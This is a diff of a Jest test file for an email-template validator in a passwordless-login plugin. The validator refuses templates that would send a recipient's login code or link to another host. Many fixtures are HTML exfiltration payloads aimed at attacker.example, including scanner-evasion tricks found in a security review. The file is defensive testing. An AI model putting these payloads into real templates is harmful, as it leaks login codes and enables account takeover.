@@ -1,19 +1,27 @@
 /**
  * Where an admin-edited HTML template may hold placeholders: in text, and the link only
  * as an <a>'s whole href. Guards against templates that make the mail client send each
- * recipient's code or link to someone else (a remote image, CSS url(), a ping).
+ * recipient's code or link to someone else (a remote image, CSS url(), a ping), read
+ * the way a browser reads HTML (issue 18: a hand-written scanner was fooled three ways).
  */
 import { findMarkupProblems } from '../../packages/strapi-passwordless-login/src/shared/template-markup';
-import { defaultEmailTemplates } from '../../packages/strapi-passwordless-login/src/server/config/defaults';
+import { defaultEmailTemplates, defaultLockedTemplates } from '../../packages/strapi-passwordless-login/src/server/config/defaults';
 
 describe('findMarkupProblems', () => {
   it.each([
     ['the default template with the link', defaultEmailTemplates({ withLink: true }).html],
+    ['the default template without the link', defaultEmailTemplates({ withLink: false }).html],
+    ['the locked template with the link', defaultLockedTemplates({ withLink: true }).html],
     ['text and a link', '<p>Code: <%= CODE %></p><a href="<%= URL %>">Sign in</a>'],
     ["single quotes, attributes around the href", "<a class='b' href='<%= URL %>' style='color:red'>x</a>"],
+    ['an unquoted href (the URL never holds a space or ">")', '<a href=<%= URL %>>x</a>'],
     ['a ">" inside a quoted attribute before the text', '<p title="a > b">Hi <%= USER.username %></p>'],
     ['a comment closed before the code', '<!-- note --><b><%= CODE %></b>'],
     ['a style element closed before the code', '<style>p{color:red}</style><p><%= CODE %></p>'],
+    ['a quote in text (not an attribute)', `<p>it's <%= CODE %>, "quoted"</p>`],
+    ['the link as text', '<p>Open <%= URL %></p>'],
+    ['the code in a table cell', '<table><tr><td><%= CODE %></td></tr></table>'],
+    ['no placeholder at all', '<p>Hello</p>'],
   ])('accepts %s', (_name, html) => {
     expect(findMarkupProblems(html)).toEqual([]);
   });
@@ -23,17 +31,53 @@ describe('findMarkupProblems', () => {
     ['the link as an image source', '<img src="<%= URL %>">', 'inside a tag'],
     ['the code in a CSS url() of a style attribute', '<p style="background:url(https://a.example/<%= CODE %>)">x</p>', 'inside a tag'],
     ['the code in a <style> element', '<style>body{background:url(https://a.example/<%= CODE %>)}</style>', 'inside <style>'],
+    ['the code in an SVG <style> (CSS too)', '<svg><style>@import url(https://a.example/<%= CODE %>)</style></svg>', 'inside <style>'],
     ['the code in a script', '<script>fetch("https://a.example/<%= CODE %>")</script>', 'inside <script>'],
-    ['a link with ping', '<a href="<%= URL %>" ping="https://attacker.example/">x</a>', 'inside a tag'],
-    ['a link with ping behind a quoted ">"', '<a href="<%= URL %>" title=">" ping="https://attacker.example/">x</a>', 'inside a tag'],
+    ['the code in a title', '<title><%= CODE %></title>', 'inside <title>'],
+    ['the code in a textarea', '<textarea><%= CODE %></textarea>', 'inside <textarea>'],
+    ['the code after <plaintext>', '<plaintext><%= CODE %>', 'inside <plaintext>'],
+    ['the code in <noscript> (raw text when scripting is on)', '<noscript><p><%= CODE %></p></noscript>', 'inside <noscript>'],
+    ['a link with ping', '<a href="<%= URL %>" ping="https://attacker.example/">x</a>', 'ping'],
+    ['a link with ping behind a quoted ">"', '<a href="<%= URL %>" title=">" ping="https://attacker.example/">x</a>', 'ping'],
     ['the link appended to another address', '<a href="https://attacker.example/?u=<%= URL %>">x</a>', 'inside a tag'],
-    ['an unquoted href', '<a href=<%= URL %>>x</a>', 'inside a tag'],
+    ['the link as an SVG <a> href', '<svg><a href="<%= URL %>"><text>x</text></a></svg>', 'inside a tag'],
+    ['the code as a link', '<a href="<%= CODE %>">x</a>', 'inside a tag'],
     ['a ">" inside quotes hiding the tag', '<img alt=">" src="https://a.example/?c=<%= CODE %>">', 'inside a tag'],
     ['the code in a comment', '<!-- <%= CODE %> -->', 'inside a comment'],
     ['the username in an attribute', '<img alt="<%= USER.username %>">', 'inside a tag'],
+    ['the code in an end tag’s attribute (the parser drops it)', '<p><%= CODE %></p x="<%= CODE %>">', 'drops or moves it'],
+    ['a second href (the parser keeps the first)', '<a href="https://attacker.example/" href="<%= URL %>">x</a>', 'drops or moves it'],
   ])('refuses %s', (_name, html, where) => {
     const problems = findMarkupProblems(html);
-    expect(problems).toHaveLength(1);
-    expect(problems[0]).toContain(where);
+    expect(problems.length).toBeGreaterThan(0);
+    expect(problems.join('\n')).toContain(where);
+  });
+
+  // The second outside review (issue 18): each of these passed the hand-written scanner,
+  // and the rendered email sent the code or link to another host.
+  it.each([
+    [
+      'a quote inside an unquoted attribute value (the review’s saved template)',
+      `<p>Your code: <%= CODE %></p><img alt=x' src="https://attacker.example/p.gif?a='><%= CODE %>">`,
+    ],
+    // The scanner kept the quote open past the ">" that ends the comment for HTML.
+    ['a bogus comment <?…> ending at the first ">"', `<?x "><img src='https://attacker.example/p.gif?c=" > <%= CODE %>'>`],
+    ['a bogus comment <!x…>', `<!x "><img src='https://attacker.example/p.gif?c=" > <%= CODE %>'>`],
+    ['a bogus comment </ …>', `</ "><img src='https://attacker.example/p.gif?c=" > <%= CODE %>'>`],
+    ['a raw-text end tag the scanner took for </style>', `<style>p{background:url("https://attacker.example/c.gif?</styles><%= CODE %>")}</style>`],
+    ['ping glued to the href’s closing quote', `<a href="<%= URL %>"ping="https://attacker.example/ping">Sign in</a>`],
+    ['ping after a slash', `<a href="<%= URL %>"/ping="https://attacker.example/ping">Sign in</a>`],
+  ])('refuses %s', (_name, html) => {
+    expect(findMarkupProblems(html)).not.toEqual([]);
+  });
+
+  it('names each misplaced placeholder once, whatever the reading', () => {
+    expect(findMarkupProblems('<img src="x?<%= CODE %>"><p><%= CODE %></p>')).toEqual([
+      '<%= CODE %> inside a tag (only <a href="<%= URL %>"> may hold a placeholder there)',
+    ]);
+  });
+
+  it('a template that already holds the marker text gets other markers', () => {
+    expect(findMarkupProblems('<img alt="plmkq0q plmk0xq0q"><p><%= CODE %></p>')).toEqual([]);
   });
 });
